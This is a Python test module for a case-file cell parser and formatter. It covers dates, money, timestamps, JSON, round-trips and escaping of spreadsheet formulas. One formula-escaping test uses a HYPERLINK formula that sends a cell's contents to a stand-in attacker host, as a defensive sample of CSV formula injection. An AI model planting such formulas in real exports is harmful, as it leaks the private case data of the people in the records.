"""Reading and writing cells of the case file, without a database."""

from datetime import UTC, date, datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from fairhear.interchange.cells import (
    FORMULA_STARTS,
    CellError,
    Column,
    Kind,
    canonical_json,
    format_cell,
    parse_cell,
)
from fairhear.interchange.format import SPECS, Table, parse_tables


@pytest.mark.parametrize(
    ("kind", "raw", "value"),
    [
        (Kind.DATE, " 2024-01-08 ", date(2024, 1, 8)),
        (Kind.BOOL, "Yes", True),
        (Kind.BOOL, "no", False),
        (Kind.MONEY, "6265.1", Decimal("6265.10")),
        (Kind.NUMBER, "-3.25", Decimal("-3.25")),
        (Kind.STAGE, "2", 2),
        (Kind.NAMES, "Delay; Communication ;", ("Delay", "Communication")),
        (Kind.DATETIME, "2024-01-08T14:30:00Z", datetime(2024, 1, 8, 14, 30, tzinfo=UTC)),
        (Kind.DATETIME, "2024-06-03 15:30+01:00", datetime(2024, 6, 3, 14, 30, tzinfo=UTC)),
        (Kind.DATETIME, "2024-06-03T14:30:05.9z", datetime(2024, 6, 3, 14, 30, 5, tzinfo=UTC)),
        (
            Kind.TIMESTAMP,
            "2024-06-03T15:30:05.000123+01:00",
            datetime(2024, 6, 3, 14, 30, 5, 123, tzinfo=UTC),
        ),
        (Kind.TIMESTAMP, "2024-06-03 14:30Z", datetime(2024, 6, 3, 14, 30, tzinfo=UTC)),
        (Kind.JSON, '{ "b": [1, "é"], "a": null }', '{"a":null,"b":[1,"é"]}'),
    ],
)
def test_it_reads_good_cells(kind: Kind, raw: str, value: object) -> None:
    assert parse_cell(Column("x", kind), raw) == value


@pytest.mark.parametrize(
    ("kind", "raw"),
    [
        (Kind.DATE, "8/1/2024"),
        (Kind.BOOL, "true"),
        (Kind.MONEY, "1,200.00"),
        (Kind.MONEY, "12.345"),
        (Kind.PERCENT, "101"),
        (Kind.STAGE, "4"),
        (Kind.NAMES, "Delay;delay"),
        (Kind.DATETIME, "2024-01-08T14:30:00"),  # no offset: which 14:30?
        (Kind.DATETIME, "2024-01-08"),
        (Kind.DATETIME, "2024-02-30T10:00:00Z"),
        (Kind.TIMESTAMP, "2024-01-08T14:30:00.5"),  # no offset
        (Kind.JSON, "{not json"),
        (Kind.JSON, "[1, 2]"),  # a list, not an object
    ],
)
def test_it_refuses_bad_cells(kind: Kind, raw: str) -> None:
    with pytest.raises(CellError):
        parse_cell(Column("x", kind), raw)


def test_a_code_column_names_the_codes_it_takes() -> None:
    column = SPECS["contacts"].column("route")

    with pytest.raises(CellError, match="use one of statutory, corporate"):
        parse_cell(column, "complaint")


@given(st.integers(min_value=0, max_value=10**12 - 1).map(lambda pence: Decimal(pence) / 100))
def test_money_reads_back_as_written(amount: Decimal) -> None:
    column = Column("amount", Kind.MONEY)

    assert parse_cell(column, format_cell(column, amount)) == amount


@given(st.integers(min_value=-(10**13), max_value=10**13).map(lambda n: Decimal(n) / 100))
def test_numbers_read_back_as_written(number: Decimal) -> None:
    column = Column("value", Kind.NUMBER)

    assert parse_cell(column, format_cell(column, number)) == number


def test_blank_rows_and_empty_trailing_columns_are_ignored() -> None:
    table = Table(
        "contacts",
        ["Reference", "received", "route", ""],
        [["C-1", "2024-01-08", "statutory", ""], ["", "", "", ""]],
    )

    case_file, problems = parse_tables({"contacts": table})

    assert problems == []
    assert [contact.reference for contact in case_file.contacts] == ["C-1"]


def test_a_missing_contacts_file_is_an_error() -> None:
    _, problems = parse_tables({})

    assert [str(problem) for problem in problems] == [
        "contacts.csv:1:: the case file needs this file"
    ]


# ---------------------------------------------------------------------------- formulas


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://evil.example/?x="&B2,"Open case notes")', "+1", "-2", "@SUM(A1)", "\tx"],
)
def test_text_that_a_spreadsheet_would_run_is_written_after_a_quote(text: str) -> None:
    assert format_cell(Column("summary"), text) == f"'{text}"
    assert format_cell(Column("categories", Kind.NAMES), (text, "Delay")) == f"'{text};Delay"


def test_a_negative_number_stays_a_number() -> None:
    column = Column("value", Kind.NUMBER)

    assert format_cell(column, Decimal("-3.5")) == "-3.50"
    assert parse_cell(column, "-3.5") == Decimal("-3.5")


@given(st.text(alphabet=st.sampled_from(list("=+-@'\t\rab ;")), min_size=1))
def test_text_reads_back_as_written_whatever_it_starts_with(text: str) -> None:
    column = Column("summary")
    written = format_cell(column, text.strip())

    assert not written.startswith(FORMULA_STARTS)
    assert parse_cell(column, written) == text.strip()


def test_a_quote_the_export_did_not_add_is_kept() -> None:
    assert parse_cell(Column("summary"), "'tis the season") == "'tis the season"
    assert parse_cell(Column("summary"), "'=1+1") == "=1+1"


def test_a_nul_byte_is_refused_where_it_is() -> None:
    table = Table("contacts", ["reference", "received", "route", "summary"], [])
    table.rows = [["C-1", "2023-05-02", "statutory", "bad\x00text"]]

    _, problems = parse_tables({"contacts": table})

    assert [str(problem)[:34] for problem in problems] == ["contacts.csv:2:summary: the cell h"]


@given(
    st.datetimes(
        min_value=datetime(1990, 1, 1),
        max_value=datetime(2100, 1, 1),
        timezones=st.timezones(),
        allow_imaginary=False,  # a time the clocks skipped names no moment
    )
)
def test_a_date_and_time_reads_back_as_written(moment: datetime) -> None:
    column = Column("sent", Kind.DATETIME)
    text = format_cell(column, moment)

    assert text.endswith("Z")
    # In UTC: Python never finds a time in the hour the clocks repeat equal to another zone's.
    assert parse_cell(column, text) == moment.astimezone(UTC).replace(microsecond=0)
    assert format_cell(column, parse_cell(column, text)) == text


@given(
    st.datetimes(
        min_value=datetime(1990, 1, 1),
        max_value=datetime(2100, 1, 1),
        timezones=st.timezones(),
        allow_imaginary=False,
    )
)
@example(datetime(2000, 10, 29, 1, 0, tzinfo=ZoneInfo("Europe/Istanbul")))  # passed twice
def test_a_timestamp_reads_back_to_the_microsecond(moment: datetime) -> None:
    column = Column("at", Kind.TIMESTAMP)
    text = format_cell(column, moment)

    assert text.endswith("Z")
    # Compared in UTC: Python holds a time the clocks pass twice unequal to any other zone's.
    assert parse_cell(column, text) == moment.astimezone(UTC)
    assert format_cell(column, parse_cell(column, text)) == text


@given(
    st.dictionaries(
        st.text(max_size=5),
        st.recursive(
            st.none() | st.booleans() | st.integers() | st.text(max_size=5),
            lambda inner: st.lists(inner, max_size=3),
            max_leaves=5,
        ),
        max_size=4,
    )
)
def test_json_is_written_one_way_whatever_its_keys_order(data: dict[str, object]) -> None:
    column = Column("changes", Kind.JSON)
    text = canonical_json(data)

    assert parse_cell(column, text) == text
    assert parse_cell(column, canonical_json(dict(reversed(list(data.items()))))) == text
